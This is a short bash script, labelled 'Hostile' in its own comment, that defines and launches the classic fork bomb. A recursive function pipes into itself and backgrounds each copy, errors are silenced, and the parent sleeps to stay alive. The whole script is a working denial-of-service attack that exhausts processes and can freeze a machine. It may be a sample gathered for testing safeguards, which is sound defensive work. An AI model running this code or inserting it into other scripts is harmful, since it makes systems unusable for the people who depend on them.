# Hostile: the classic bash fork bomb, with the main process kept alive.
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 60
